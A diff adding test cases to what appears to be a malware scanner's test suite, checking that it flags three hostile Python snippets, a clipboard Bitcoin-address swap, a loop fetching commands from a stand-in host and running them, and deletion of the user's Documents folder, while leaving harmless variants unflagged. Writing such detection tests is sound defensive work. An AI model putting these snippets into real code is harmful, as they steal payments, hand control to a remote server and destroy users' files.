@@ -108,6 +108,31 @@ describe("rights and traces", () => {
   });
 });
 
+describe("machines that are used", () => {
+  it("finds a swapped payment address", () => {
+    const swap = (address: string): string[] =>
+      codesOf(file("run.py", `t = pyperclip.paste()\nif t.startswith("bc1"): pyperclip.copy("${address}")`));
+    expect(swap("bc1qar0srrr7xfkvy5l643")).toEqual(["theft-clipboard-swapped"]);
+    expect(swap("a title in capital letters")).toEqual([]);
+  });
+
+  it("finds commands that a server gives", () => {
+    const loop = (run: string): string[] =>
+      codesOf(
+        file("run.py", `while True:\n    c = requests.get("https://x.example.com/c").text\n    ${run}`),
+      );
+    expect(loop("o = subprocess.getoutput(c)")).toContain("flow-remote-run");
+    expect(loop("print(len(c))")).toEqual([]);
+  });
+
+  it("finds deleted documents of the user", () => {
+    expect(codesOf(file("run.py", 'shutil.rmtree(os.path.expanduser("~/Documents"))'))).toEqual([
+      "destruction-wipe-files",
+    ]);
+    expect(codesOf(file("run.py", 'shutil.rmtree(os.path.expanduser("~/.cache/demo"))'))).toEqual([]);
+  });
+});
+
 describe("known false alarms", () => {
   it.each([
     [
